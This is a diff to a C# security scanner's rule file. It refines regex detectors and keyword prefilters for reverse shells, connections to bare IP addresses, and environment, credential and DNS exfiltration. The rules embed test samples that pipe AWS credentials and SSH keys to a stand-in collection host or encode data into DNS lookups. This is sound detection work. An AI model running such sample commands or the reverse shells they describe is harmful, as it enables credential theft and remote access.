@@ -11,10 +11,17 @@ internal static class WayOutRules
 {
     private const string NetCat = @"(?<![\w./\-])(?:/\S{0,40}/)?(?:nc|ncat|netcat|nc\.traditional|busybox\s+nc)(?:\.exe)?";
     private const string ShellPath = @"(?:/\S{0,20}/)?(?:ba|z|k|da|c)?sh\b|cmd(?:\.exe)?\b|powershell(?:\.exe)?\b";
-    private const string ShellName = @"[""'`](?:/(?:usr/)?bin/(?:env\s+)?)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)[""'`]";
+    private const string ShellName = @"[""'`](?:/(?:usr/)?bin/(?:env\s+)?|[\w:.\\/]{1,40}[\\/])?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)[""'`]";
     private const string SendsInPython = @"\b(?:requests|httpx|session|aiohttp)\.(?:post|put|get|request|patch)\s*\(|\burlopen\s*\(|\bhttp\.client\b|\.sendall?\s*\(|\bRequest\s*\(";
     private const string SendsInScript = @"\bfetch\s*\(|\bhttps?\.(?:request|get)\s*\(|\baxios\b|\bsendBeacon\s*\(|\bXMLHttpRequest\b|\bgot(?:\.\w+)?\s*\(|\brequest(?:\.post)?\s*\(|\bWebSocket\s*\(|\bdns\.\w+\s*\(|\bnet\.(?:connect|createConnection)";
     private const string Stores = @"(?:\.aws/(?:credentials|config)|\.ssh/|id_(?:rsa|ed25519|ecdsa|dsa)\b|/etc/(?:passwd|shadow)\b|(?<![\w])\.env\b|\.npmrc\b|\.pypirc\b|\.netrc\b|\.kube/config|\.docker/config|\.git-credentials|\.gnupg|\.bash_history|/proc/(?:self|\d+|\*)/environ|serviceaccount/token)";
+
+    /// <summary>What stands in the paths of those stores.</summary>
+    private static readonly ImmutableArray<string> Words =
+    [
+        ".aws/", ".ssh/", "id_rsa", "id_ed25519", "id_ecdsa", "/etc/passwd", "/etc/shadow", "/.env", " .env", "@.env", ".npmrc", ".pypirc", ".netrc", ".kube/config", ".docker/config", ".git-credentials", ".gnupg", ".bash_history", "/environ",
+        "serviceaccount/token",
+    ];
 
     /// <summary>A raw socket to an address of this network or of a resolver is ordinary.</summary>
     private static Severity? JudgeAddress(Hit hit) => Addresses.KindOf(hit.Match.Groups["a"].ValueSpan) switch
@@ -32,9 +39,12 @@ internal static class WayOutRules
             new Form(@"sh\s+-i\b[^\n]{0,100}?/dev/(?:tcp|udp)/[^\n]{0,80}", "/dev/tcp/", "/dev/udp/"),
             new Form(@"/dev/(?:tcp|udp)/[^\n]{0,160}?(?:0>&1|0<&1|0<&\d|sh\s+(?:-i\s+)?<&)", "/dev/tcp/", "/dev/udp/"),
             new Form(@"exec\s+(?<n>\d+)<>\s*/dev/(?:tcp|udp)/[^\n]{0,100}[\s\S]{0,200}?(?:sh\s[^\n]{0,40}<&\s*\k<n>|(?:cat|read)\b[^\n]{0,60}<&\s*\k<n>[\s\S]{0,120}?(?:\$\w+\s+2>&\k<n>|eval|\bsh\b))", "/dev/tcp/", "/dev/udp/") { Below = 4 },
-            new Form(NetCat + @"\s[^\n|;]{0,160}?(?:-[a-zA-Z]{0,6}[ec]|--exec|--sh-exec)\s+[""']?(?:" + ShellPath + ")", "nc ", "ncat", "netcat", "nc.exe", "nc.traditional"),
-            new Form(@"\bmkfifo\s[^\n]{0,120}[\s\S]{0,200}?(?:sh\s+-i|/bin/(?:ba|z)?sh)[^\n]{0,80}?\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b", "mkfifo") { Below = 4 },
-            new Form(@"\bmkfifo\s[^\n]{0,120}[\s\S]{0,200}?(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s[^\n|]{0,120}\|\s*(?:/bin/)?(?:ba|z)?sh\b", "mkfifo") { Below = 4 },
+            new Form(NetCat + @"\s[^\n|;]{0,160}?(?:-[a-zA-Z]{0,6}[ec]|--exec|--sh-exec)\s+[""']?(?:" + ShellPath + ")", " -e /", "-e sh", "-e bash", "-e cmd", "-e powershell", "-c /bin", "-c sh", "-c bash", "-c cmd", "--exec", "--sh-exec"),
+            new Form(@"\b(?:mkfifo|mknod)\s[^\n;|&]{1,120}", "mkfifo", "mknod")
+            {
+                Beside = [@"(?:\bsh\s+-i|/bin/(?:ba|z)?sh)\b[^\n|]{0,80}\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b|\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s[^\n|]{1,120}\|\s*(?:/bin/)?(?:ba|z)?sh\b"],
+                Around = 4,
+            },
             new Form(@"\btelnet\s+\S{1,100}\s+\S{1,20}\s*\|\s*(?:/bin/)?(?:ba|z)?sh\b[^\n]{0,20}\|\s*telnet", "telnet"),
             new Form(@"(?:sh\s+-i[^\n|]{0,60}\|\s*openssl\s+s_client|openssl\s+s_client[^\n|]{0,160}\|\s*(?:/bin/)?(?:ba|z)?sh\b)", "s_client"),
             new Form(@"(?i:\bsocat\b[^\n]{0,240}?(?:exec|system):\s*[""'\\]{0,3}(?:" + ShellPath + "))", "socat") { Beside = ["(?i:tcp|udp|openssl|ssl)"], Around = 0 },
@@ -42,8 +52,11 @@ internal static class WayOutRules
                 { Beside = [@"\bconnect\s*\(", @"pty\.spawn|/bin/(?:ba|z|da)?sh|subprocess\.(?:call|run|Popen)|os\.exec|exec[lv]p?e?\s*\(|cmd\.exe"], Around = 15 },
             new Form(@"\bpty\.spawn\s*\(\s*" + ShellName, "pty.spawn") { Beside = [@"\bsocket\b[^\n]{0,40}", @"\bconnect\s*\("], Around = 12 },
             new Form(@"\b(?:p?fsockopen|stream_socket_client|socket_connect)\s*\(", "fsockopen", "stream_socket_client", "socket_connect")
-                { Beside = [@"\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\([^\n]{0,80}?(?:\bsh\b|<&|\$\w+)"], Around = 10, Where = FileRole.Code | FileRole.Page },
-            new Form(@"\b(?:exec|system)\s*[\s({]\s*[""']?/bin/(?:ba|z)?sh\b[^\n]{0,20}", "exec", "system") { Beside = [@"IO::Socket::INET|use\s+Socket\b|sockaddr_in", @"open\s*\(?\s*STDIN|fdopen"], Around = 8 },
+                { Beside = [@"\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\([^\n]{0,80}?(?:\bsh\b|<&|\$\w+)|`\s*/bin/(?:ba|z)?sh\b"], Around = 10 },
+            new Form(ShellName, "/bin/sh", "/bin/bash", "/bin/zsh", "cmd.exe", "powershell.exe") { Beside = [@"\bsocket\b", @"\.connect\s*\(", @"\bdup2\b|\bpty\b|\bstdin\s*="], Around = 10 },
+            new Form(@"\bos\.execute\s*\(\s*[""']/bin/(?:ba)?sh|\bio\.popen\s*\(", "os.execute", "io.popen") { Beside = [@"\bsocket\b", @"\btcp\b", @":connect\s*\("], Around = 10 },
+            new Form(@"\bProcess\.(?:start|run)\s*\(\s*" + ShellName, "Process.start", "Process.run") { Beside = [@"\bSocket\.connect\s*\("], Around = 12 },
+            new Form(@"\b(?:exec|system)\s*[\s({]\s*[""']?/bin/(?:ba|z)?sh\b[^\n]{0,20}", "/bin/sh", "/bin/bash", "/bin/zsh") { Beside = [@"IO::Socket::INET|use\s+Socket\b|sockaddr_in", @"open\s*\(?\s*STDIN|fdopen"], Around = 8 },
             new Form(@"\bSTDIN->fdopen\s*\(\s*\$\w+\s*,\s*[""']?r", "fdopen") { Beside = ["IO::Socket"], Around = 8 },
             new Form(@"\bTCPSocket\.(?:open|new)\s*\(", "TCPSocket.") { Beside = [@"\b(?:exec|spawn|system)\b[^\n]{0,60}(?:sh\s+-i|/bin/(?:ba)?sh|<&)|IO\.popen\s*\(\s*(?:cmd|\w+)\s*,\s*[""']r"], Around = 8 },
             new Form(@"\.pipe\s*\(\s*(?<s>\w+)\.stdin\s*\)[\s\S]{0,160}?\k<s>\.stdout\.pipe\s*\(|(?<s>\w+)\.stdout\.pipe\s*\([\s\S]{0,160}?\.pipe\s*\(\s*\k<s>\.stdin\s*\)", ".stdin", ".stdout.pipe")
@@ -78,13 +91,13 @@ internal static class WayOutRules
         },
         Rule.Pattern("socket-to-address", Severity.High, "connection to a bare address", "https://attack.mitre.org/techniques/T1095/",
             "An address without a name belongs to nobody whom a reader could know; a service has a name.", "Name the host, and take it from the configuration.",
-            new Form(@"\bconnect\w*\s*\(\s*\(?\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3})[""']\s*,", "connect"),
+            new Form(@"\bconnect\w*\s*\(\s*\(?\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3})[""']\s*,", "connect(", "connect_ex(", "connect ("),
             new Form(@"\bDial\w*\s*\(\s*(?:ctx\s*,\s*)?[""']\w+[""']\s*,\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3}):\d+[""']", "Dial"),
             new Form(@"\bTcpStream::connect\s*\(\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3}):\d+[""']", "TcpStream::connect"),
             new Form(@"\b(?:Socket|TcpClient|UdpClient|TCPSocket\.(?:new|open)|fsockopen|createConnection|InetSocketAddress)\s*\(\s*(?:\d+\s*,\s*)?[""'](?:tcp://|ssl://)?(?<a>\d{1,3}(?:\.\d{1,3}){3})[""']\s*[,)]", "Socket", "TcpClient", "UdpClient", "fsockopen", "createConnection"),
-            new Form(@"\bconnect\s*\(\s*\d+\s*,\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3})[""']", "connect"),
+            new Form(@"\bconnect\s*\(\s*\d+\s*,\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3})[""']", "connect(", "connect ("),
             new Form(@"\binet_addr\s*\(\s*""(?<a>\d{1,3}(?:\.\d{1,3}){3})""", "inet_addr"),
-            new Form(@"(?<![\w./\-])(?:nc|ncat|netcat|telnet)\s+(?:-\w+\s+){0,4}(?<a>\d{1,3}(?:\.\d{1,3}){3})\s+\d{2,5}\b", "nc ", "ncat ", "netcat ", "telnet "),
+            new Form(@"(?<![\w./\-])(?:nc|ncat|netcat|telnet)\s+(?:-\w+\s+){0,4}(?<a>\d{1,3}(?:\.\d{1,3}){3})\s+\d{2,5}\b", "nc 1", "nc 2", "nc 3", "nc 4", "nc 5", "nc 6", "nc 7", "nc 8", "nc 9", "nc -", "ncat ", "netcat ", "telnet "),
             new Form(@"/dev/(?:tcp|udp)/(?<a>\d{1,3}(?:\.\d{1,3}){3})/\d+", "/dev/tcp/", "/dev/udp/")) with
         {
             Judge = JudgeAddress,
@@ -94,7 +107,7 @@ internal static class WayOutRules
         },
         Rule.Pattern("environment-sent-out", Severity.High, "environment is sent away", "https://attack.mitre.org/techniques/T1041/",
             "The environment holds tokens and passwords; whoever receives it can use them all.", "Send the values that are needed, by name.",
-            new Form(@"(?:^|[;&|(""'`]|&&|\brun:)\s*(?:/usr/bin/)?(?:env|printenv|export\s+-p|declare\s+-x|compgen\s+-e|set)\s*(?:\|(?!\|)[^|\n]{0,100}){0,3}\|\s*(?:\\\r?\n\s*)?(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client)\b[^\n]{0,300}", "curl", "wget", "nc ", "ncat", "netcat", "socat", "s_client"),
+            new Form(@"(?:^|[;&|(""'`]|&&|\brun:)\s*(?:/usr/bin/)?(?:env|printenv|export\s+-p|declare\s+-x|compgen\s+-e|set)\s*(?:\|(?!\|)[^|\n]{0,100}){0,3}\|\s*(?:\\\r?\n\s*)?(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client)\b[^\n]{0,300}", "env |", "env|", "printenv", "set |", "set|", "export -p", "declare -x", "compgen -e"),
             new Form(@"(?:curl|wget)\s[^\n]{0,400}?(?:\$\(\s*(?:env|printenv|export\s+-p|set)\b|`(?:env|printenv)\b|<\(\s*(?:env|printenv))[^\n]{0,200}", "curl", "wget"),
             new Form(@"JSON\.stringify\s*\(\s*(?:\{[^}\n]{0,80})?(?:\.\.\.\s*)?process\.env\s*[,)}]", "process.env") { Beside = [SendsInScript], Around = 8 },
             new Form(@"\b(?:body|data|json|form|params|payload)\s*:\s*(?:\{\s*(?:\.\.\.|env:\s*))?process\.env\s*[,)}]", "process.env") { Beside = [SendsInScript], Around = 8 },
@@ -121,21 +134,21 @@ internal static class WayOutRules
         },
         Rule.Pattern("credentials-sent-out", Severity.Critical, "file of credentials is sent away", "https://attack.mitre.org/techniques/T1552/001/",
             "Whoever receives it can log in with these credentials.", "Take it out, find out who put it there, and revoke what may have been sent.",
-            new Form(@"(?:\b(?:cat|base64|tar|zip|gzip|xxd|od|head|dd)\s[^\n|;]{0,160}?" + Stores + @"[^\n|]{0,120}(?:\|[^|\n]{0,100}){0,3}\|\s*(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client)\b)", ".aws/", ".ssh/", "id_rsa", "id_ed25519", "/etc/passwd", "/etc/shadow", ".env", ".npmrc", ".pypirc", ".netrc", ".kube/config", ".docker/config", ".git-credentials", ".gnupg", "/environ", "serviceaccount/token"),
+            new Form(@"(?:\b(?:cat|base64|tar|zip|gzip|xxd|od|head|dd)\s[^\n|;]{0,160}?" + Stores + @"[^\n|]{0,120}(?:\|[^|\n]{0,100}){0,3}\|\s*(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client)\b)", Words),
             new Form(@"\bcurl\s[^\n|]{0,300}?(?:-d|--data\S{0,12}|-F|--form|-T|--upload-file)[\s=]*[""']?(?:[\w\-]{1,30}=)?@?(?:~|\$HOME|\$\{HOME\}|/root|/home/\S{1,30})?/?[\w./]{0,40}?" + Stores, "curl"),
             new Form(@"\bcurl\s[^\n]{0,300}?\$\(\s*(?:cat|base64(?:\s+-w\s*0)?|tar\s+\S+)\s[^)\n]{0,100}?" + Stores, "curl"),
-            new Form(@"\b(?:nc|ncat|netcat)\s[^\n|;]{0,100}?<\s*\S{0,60}?" + Stores, "nc ", "ncat", "netcat"),
-            new Form(@"(?:scp|rsync)\s[^\n|;]{0,80}?(?:~|\$HOME|/root|/home/\w{1,30})/" + Stores + @"\S{0,60}\s+\S{1,60}@\S{1,100}:", "scp ", "rsync ")) with
+            new Form(@"\b(?:nc|ncat|netcat)\s[^\n|;]{0,100}?<\s*\S{0,60}?" + Stores, Words),
+            new Form(@"(?:scp|rsync)\s[^\n|;]{0,80}?(?:~|\$HOME|/root|/home/\w{1,30})/" + Stores + @"\S{0,60}\s+\S{1,60}@\S{1,100}:", Words)) with
         {
             Positives = [new($"cat ~/.{"aws"}/credentials | curl -d @- https://collect.tool.dev", "src/run.sh"), new($"curl -F \"f=@$HOME/.{"ssh"}/id_rsa\" https://collect.tool.dev", "src/run.sh")],
             Negatives = [new("cat ~/.ssh/id_rsa.pub | ssh host 'cat >> keys'", "src/run.sh"), new("curl -o ~/.npmrc https://tool.dev/npmrc", "src/run.sh"), new("curl -d @data.json https://tool.dev", "src/run.sh"), new("curl --config ~/.netrc https://tool.dev", "src/run.sh")],
         },
         Rule.Pattern("dns-exfiltration", Severity.High, "data leaves inside a host's name", "https://attack.mitre.org/techniques/T1048/",
             "A lookup passes every firewall, and whoever owns the domain reads the name that was asked for.", "Take it out; send data over a connection that is meant for it.",
-            new Form(@"(?<![\w./\-])(?:nslookup|dig|host|ping6?|drill|getent\s+(?:hosts|ahosts)|curl|wget)\s[^\n;|]{0,120}?(?:\$\(|`)\s*(?:whoami|hostname|id\b|cat\b|base64|xxd|env\b|printenv|hexdump|od\b|echo\s[^)\n`]{0,80}\|)[^)\n`]{0,160}[)`]\.[\w\-]{1,60}\.[a-z]{2,}", "nslookup", "dig ", "host ", "ping", "drill ", "getent", "curl", "wget"),
-            new Form(@"(?:nslookup|dig|host)\s[^\n;|]{0,80}?\$\{?\w{1,40}\}?\.\$\{?\w{1,40}\}?\.?[\w.\-]{0,60}", "nslookup", "dig ", "host ") { Beside = [@"\b(?:base64|xxd|od\s|hexdump|split\s+-|fold\s+-w)"], Around = 6, Where = FileRole.Shell | FileRole.Pipeline | FileRole.Container },
-            new Form(@"\bdns(?:\.promises)?\.(?:resolve\w*|lookup)\s*\(\s*(?:`[^`\n]{0,120}\$\{[^`\n]{0,160}`|[^,)\n]{1,80}\+\s*[""'`]\.)", "dns.") { Beside = [@"toString\s*\(\s*[""'`](?:hex|base64|base64url)|encodeURIComponent|btoa\s*\(|match\s*\(\s*/\.\{1,\d"], Around = 8 },
-            new Form(@"\b(?:gethostbyname|getaddrinfo|resolver?\.(?:query|resolve))\s*\(\s*(?:f[""'][^""'\n]{0,80}\{|[^,)\n]{1,60}\+\s*f?[""']\.)", "gethostbyname", "getaddrinfo", "resolve") { Beside = [@"b64encode|b32encode|hexlify|\.hex\s*\(|encode\s*\(\s*[""']hex"], Around = 8 }) with
+            new Form(@"(?<![\w./\-])(?:nslookup|dig|host|ping6?|drill|getent\s+(?:hosts|ahosts)|curl|wget)\s[^\n;|]{0,120}?(?:\$\(|`)(?:whoami|hostname|id\b|cat\b|base64|xxd|env\b|printenv|hexdump|od\b|echo\s[^)\n`]{0,80}\|)[^)\n`]{0,160}[)`]\.[\w\-]{1,60}\.[a-z]{2,}",  [.. from open in (string[])["$(", "`"] from word in (string[])["whoami", "hostname", "id", "cat", "base64", "xxd", "env", "printenv", "hexdump", "od ", "echo"] select open + word]),
+            new Form(@"(?<![\w./\-])(?:nslookup|dig|host)\s[^\n;|]{0,80}?\$\{?\w{1,40}\}?\.\$\{?\w{1,40}\}?\.?[\w.\-]{0,60}", "nslookup", "dig $", "dig \"", "dig +", "host $", "host \"") { Beside = [@"\b(?:base64|xxd|od\s|hexdump|split\s+-|fold\s+-w)"], Around = 6, Where = FileRole.Shell | FileRole.Pipeline | FileRole.Container },
+            new Form(@"\bdns(?:\.promises)?\.(?:resolve\w*|lookup)\s*\(\s*(?:`[^`\n]{0,120}\$\{[^`\n]{0,160}`|[^,)\n]{1,80}\+\s*[""'`]\.)", "dns.resolve", "dns.lookup", "dns.promises") { Beside = [@"toString\s*\(\s*[""'`](?:hex|base64|base64url)|encodeURIComponent|btoa\s*\(|match\s*\(\s*/\.\{1,\d"], Around = 8 },
+            new Form(@"\b(?:gethostbyname|getaddrinfo|resolver?\.(?:query|resolve))\s*\(\s*(?:f[""'][^""'\n]{0,80}\{|[^,)\n]{1,60}\+\s*f?[""']\.)", "gethostbyname", "getaddrinfo", "resolver.") { Beside = [@"b64encode|b32encode|hexlify|\.hex\s*\(|encode\s*\(\s*[""']hex"], Around = 8 }) with
         {
             Positives = [new("dig $(whoami | base64).x.tool.dev", "src/run.sh"), new("nslookup `hostname`.c.tool.dev", "src/run.sh"), new("const part = Buffer.from(data).toString(\"hex\");\ndns.resolve(`${part}.c.tool.dev`, done);\n", "src/app.js")],
             Negatives = [new("dig +short $(hostname)", "src/run.sh"), new("dns.resolve(`${name}.service.consul`, done);", "src/app.js"), new("host \"$DOMAIN\"", "src/run.sh"), new("curl https://$(hostname).internal", "src/run.sh")],
